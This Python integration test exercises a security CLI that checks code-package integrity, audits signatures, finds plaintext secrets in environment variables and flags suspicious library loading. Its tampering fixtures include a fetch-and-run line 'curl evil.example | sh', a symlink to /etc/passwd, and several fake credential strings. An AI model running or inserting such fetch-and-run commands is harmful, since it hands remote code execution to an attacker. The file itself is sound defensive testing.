#!/usr/bin/env python3
"""protectlambda manifest / verify / audit-env / audit, as a user runs them: real files, real
processes, exit codes and outputs. No secret value may appear in any captured output."""
import json
import os
import shutil
import subprocess
import sys
import tempfile

PL = os.environ.get("PL_BIN") or os.path.join(os.environ.get("PL_BUILD_DIR", "build"),
                                              "src/cli/protectlambda")
FAILS = []
OUTPUTS = []  # everything captured, grepped for secrets at the end


def run(args, env=None, cwd=None):
    p = subprocess.run([PL] + args, capture_output=True, text=True, env=env, cwd=cwd, timeout=60)
    OUTPUTS.append(p.stdout + p.stderr)
    return p


def check(cond, what, p=None):
    if not cond:
        extra = ""
        if p is not None:
            extra = "\n  rc=%s\n  stdout=%s\n  stderr=%s" % (p.returncode, p.stdout[-2000:],
                                                             p.stderr[-2000:])
        FAILS.append(what + extra)
        print("FAIL", what + extra)
    else:
        print("ok  ", what)


def write(path, data, mode=0o644):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode())
    os.chmod(path, mode)


def make_tree(root):
    write(os.path.join(root, "app.py"), "def handler(event, context):\n    return {'ok': 1}\n")
    write(os.path.join(root, "lib/util.py"), "X = 1\n")
    write(os.path.join(root, "lib/data.bin"), os.urandom(300000))
    write(os.path.join(root, "bootstrap"), "#!/bin/sh\nexec python3 app.py\n", 0o755)
    os.symlink("app.py", os.path.join(root, "main.py"))


def manifest_and_verify(tmp):
    root = os.path.join(tmp, "code")
    make_tree(root)
    mf = os.path.join(tmp, "code.manifest")
    p = run(["manifest", root, "-o", mf])
    check(p.returncode == 0 and os.path.exists(mf), "manifest writes the file", p)
    text = open(mf).read()
    check(text.startswith("protectlambda-manifest 1\nhash sha256\nentries 6\n"),
          "manifest header and entry count")
    check(" main.py app.py\n" in text, "symlink recorded with its target, not followed")
    p = run(["verify", "--manifest", mf, root])
    check(p.returncode == 0 and p.stdout.startswith("OK: 6 entries match"), "verify: unchanged tree is OK", p)

    # every kind of difference, each detected and named
    write(os.path.join(root, "lib/util.py"), "X = 2\n")                        # content, same size
    write(os.path.join(root, "app.py"), "import os\nos.system('id')\n")         # content + size
    os.chmod(os.path.join(root, "lib/data.bin"), 0o666)                        # mode
    write(os.path.join(root, "lib/evil.so"), b"\x7fELF....")                  # added
    os.unlink(os.path.join(root, "bootstrap"))                                 # missing
    os.unlink(os.path.join(root, "main.py"))
    os.symlink("/etc/passwd", os.path.join(root, "main.py"))                   # link target
    p = run(["verify", "--manifest", mf, root])
    out = p.stdout
    check(p.returncode == 1, "verify exits 1 on differences", p)
    check("changed file lib/util.py (content)" in out, "same-size content change", p)
    check("changed file app.py (content, size" in out, "content and size change", p)
    check("changed file lib/data.bin (mode 0644 -> 0666)" in out, "mode change", p)
    check("added   file lib/evil.so" in out, "added file", p)
    check("missing file bootstrap" in out, "missing file", p)
    check("changed link main.py (link target)" in out, "link target change", p)
    check("DIFFERENT: 6 differences (1 added, 1 missing, 4 changed)" in out, "summary line", p)
    p = run(["verify", "--format", "json", "--manifest", mf, root])
    j = json.loads(p.stdout)
    check(p.returncode == 1 and j["ok"] is False and j["added"] == 1 and j["missing"] == 1
          and j["changed"] == 4, "verify --format json", p)


def signatures(tmp):
    root = os.path.join(tmp, "signed")
    make_tree(root)
    keys = os.path.join(tmp, "keys")
    os.makedirs(keys)
    p = run(["manifest", "keygen", "-o", os.path.join(keys, "pl")])
    check(p.returncode == 0, "manifest keygen", p)
    priv, pub = os.path.join(keys, "pl.key"), os.path.join(keys, "pl.pub")
    check(oct(os.stat(priv).st_mode & 0o777) == "0o600", "private key is 0600")
    # the manifest lives inside the tree, as in a function package
    mf = os.path.join(root, "protectlambda.manifest")
    p = run(["manifest", root, "-o", mf, "--sign", priv])
    check(p.returncode == 0 and "signature ed25519 " in open(mf).read(), "signed manifest", p)
    p = run(["verify", "--manifest", mf, "--pubkey", pub, root])
    check(p.returncode == 0 and "signature valid" in p.stdout, "signed manifest verifies", p)

    # an openssl-made key pair works too, and is the wrong key for this manifest
    other = os.path.join(keys, "other.key")
    subprocess.run(["openssl", "genpkey", "-algorithm", "ed25519", "-out", other], check=True,
                   capture_output=True)
    other_pub = os.path.join(keys, "other.pub")
    subprocess.run(["openssl", "pkey", "-in", other, "-pubout", "-out", other_pub], check=True,
                   capture_output=True)
    p = run(["verify", "--manifest", mf, "--pubkey", other_pub, root])
    check(p.returncode == 2 and "signature does not match" in p.stderr, "bad signature refused (exit 2)", p)

    # forged: attacker changes the code and rewrites the manifest without the key
    write(os.path.join(root, "app.py"), "import os\nos.system('curl evil.example | sh')\n")
    forged = os.path.join(tmp, "forged.manifest")
    p = run(["manifest", root, "-o", forged])
    sig = [l for l in open(mf).read().splitlines(True) if l.startswith("signature ")]
    with open(forged, "a") as f:
        f.writelines(sig)  # keep the old signature line
    p = run(["verify", "--manifest", forged, "--pubkey", pub, root])
    check(p.returncode == 2 and "signature" in p.stderr, "forged manifest (old signature) refused", p)
    p = run(["manifest", root, "-o", forged, "--sign", other])
    p = run(["verify", "--manifest", forged, "--pubkey", pub, root])
    check(p.returncode == 2, "manifest signed with another key refused", p)
    unsigned = os.path.join(tmp, "unsigned.manifest")
    run(["manifest", root, "-o", unsigned])
    p = run(["verify", "--manifest", unsigned, "--pubkey", pub, root])
    check(p.returncode == 2 and "not signed" in p.stderr, "unsigned manifest with a key given refused", p)
    # hand-edited manifest (hash of app.py replaced): total no longer matches
    text = open(mf).read().replace(" app.py\n", " app.py\n", 1)
    lines = text.splitlines(True)
    for i, l in enumerate(lines):
        if l.startswith("F ") and l.rstrip().endswith(" app.py"):
            parts = l.split(" ")
            parts[3] = "0" * 64
            lines[i] = " ".join(parts)
    edited = os.path.join(tmp, "edited.manifest")
    open(edited, "w").write("".join(lines))
    p = run(["verify", "--manifest", edited, root])
    check(p.returncode == 2 and "total hash does not match" in p.stderr, "edited manifest refused", p)
    # the genuine manifest reports the change
    p = run(["verify", "--manifest", mf, "--pubkey", pub, root])
    check(p.returncode == 1 and "changed file app.py" in p.stdout, "genuine manifest reports the change", p)
    # garbage manifest, bounded parser
    junk = os.path.join(tmp, "junk.manifest")
    open(junk, "w").write("protectlambda-manifest 1\nhash sha256\nentries 99999999999\n")
    p = run(["verify", "--manifest", junk, root])
    check(p.returncode == 2, "absurd entry count refused", p)


SECRETS = {
    "AWS_ACCESS_KEY_ID": "ASIA" + "Y3KQ7ZPLM2NX4RWT",
    "AWS_SECRET_ACCESS_KEY": "Jx9" + "kQ2v8Zr+Xw4yTb6NmP1sLd9Hf3Gj7Uc5Ve0R",
    "AWS_SESSION_TOKEN": "IQoJb3JpZ2luX2Vj" + "EJr" + "A" * 40 + "zZ9/+" * 30,
    "DB_PASSWORD": "hunter2-" + "correct-horse",
    "GITHUB": "ghp_" + "Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4zAB7c",
    "SLACK": "xoxb-" + "2401234567-abcdefghijKL",
    "OPENAI_KEY_X": "sk-" + "proj-Zx81Lm0Pq7Ws2Ed4Rf6Tg",
    "STRIPE": "sk_live_" + "51HxYzAbCdEfGhIjKlMnOp",
    "ID_TOKEN": "eyJhbGciOiJSUzI1NiJ9" + ".eyJzdWIiOiJ1c2VyLTEyMyJ9" + ".c2lnbmF0dXJlLWJ5dGVz",
    "TLS_KEY": "-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEI" + "Hx\n-----END PRIVATE KEY-----",
    "WEBHOOK_SALT": "Vb7" + "Nq2Lk9Xw4Tz8Rm3Pa6Ys1Hd5",
    "LEGACY_KEY_ID": "AKIA" + "Q3EGRZLKD7YT4W5N",
}


def audit_env(tmp):
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": "/tmp",
           "DOCS_KEY": "AKIAIOSFODNN7EXAMPLE", "FEATURE_TOKEN": "true",
           "SECRET_ARN": "arn:aws:secretsmanager:us-east-1:123456789012:secret:x"}
    env.update(SECRETS)
    p = run(["audit-env"], env=env)
    check(p.returncode == 1, "audit-env exits 1 on findings", p)
    for name, kind in [("DB_PASSWORD", "name:password"), ("GITHUB", "github_token"),
                       ("SLACK", "slack_token"), ("OPENAI_KEY_X", "openai_key"),
                       ("STRIPE", "stripe_key"), ("ID_TOKEN", "jwt"), ("TLS_KEY", "private_key"),
                       ("WEBHOOK_SALT", "high_entropy"), ("LEGACY_KEY_ID", "aws_access_key_id")]:
        check("PLAINTEXT_SECRET  %s  kind=%s  sha256=" % (name, kind) in p.stdout,
              "audit-env finds %s as %s" % (name, kind), p)
    for name in ["AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"]:
        check("expected          %s  kind=aws_credentials" % name in p.stdout,
              "%s is expected, not a finding" % name, p)
    for name in ["DOCS_KEY", "FEATURE_TOKEN", "SECRET_ARN", "PATH", "HOME"]:
        check(" %s " % name not in p.stdout, "%s is not a finding" % name, p)
    check("9 findings in" in p.stdout, "nine findings", p)
    p = run(["audit-env", "--format", "json"], env=env)
    j = json.loads(p.stdout)
    check(len(j["findings"]) == 9 and len(j["expected"]) == 3 and
          all(len(f["sha256_prefix"]) == 8 for f in j["findings"]), "audit-env --format json", p)
    clean = {"PATH": env["PATH"], "DOCS_KEY": "AKIAIOSFODNN7EXAMPLE",
             "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"}
    p = run(["audit-env"], env=clean)
    check(p.returncode == 0 and "0 findings" in p.stdout, "documentation keys are not secrets (exit 0)", p)


def audit(tmp):
    # a process with a library loaded from a writable place and LD_PRELOAD-style variables
    lib = os.path.join(tmp, "libdropped.so")
    shutil.copy("/lib/x86_64-linux-gnu/libutil.so.1", lib)
    code = "import ctypes,sys,time; ctypes.CDLL(sys.argv[1]); print('ready', flush=True); time.sleep(20)"
    env = dict(os.environ, NODE_OPTIONS="--require %s/hook.js" % tmp, PYTHONPATH="/var/task")
    proc = subprocess.Popen([sys.executable, "-c", code, lib], stdout=subprocess.PIPE, env=env,
                            text=True)
    try:
        proc.stdout.readline()
        p = run(["audit", "--pid", str(proc.pid), "--task-root", tmp])
        check(p.returncode == 1, "audit exits 1 on findings", p)
        check("FINDING: code from a writable place" in p.stdout and lib in p.stdout,
              "audit: library loaded from a writable place", p)
        check("NODE_OPTIONS=--require %s/hook.js  FINDING" % tmp in p.stdout,
              "audit: code-loading variable into a writable place", p)
        check("PYTHONPATH=/var/task\n" in p.stdout, "audit: code-loading variables listed", p)
        check("interpreter  /lib64/ld-linux-x86-64.so.2" in p.stdout, "audit: ELF interpreter", p)
        check("/etc/shadow" in p.stdout and "(content never read)" in p.stdout,
              "audit: sensitive files (readability only)", p)
        p = run(["audit", "--format", "json", "--pid", str(proc.pid), "--task-root", tmp])
        j = json.loads(p.stdout)
        objs = [o for o in j["runtime"]["objects"] if o["path"] == lib]
        check(objs and objs[0]["writable_place"] and objs[0]["exec"], "audit --format json", p)
    finally:
        proc.kill()
        proc.wait()


def main():
    tmp = tempfile.mkdtemp(prefix="pl-integrity-cli-")
    try:
        manifest_and_verify(tmp)
        signatures(tmp)
        audit_env(tmp)
        audit(tmp)
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
    # no secret value in anything captured (plain or base64)
    import base64
    blob = "\n".join(OUTPUTS)
    for name, value in SECRETS.items():
        check(value not in blob and base64.b64encode(value.encode()).decode() not in blob,
              "no output contains the value of %s" % name)
    if FAILS:
        print("%d failure(s)" % len(FAILS))
        return 1
    print("all passed")
    return 0


if __name__ == "__main__":
    sys.exit(main())
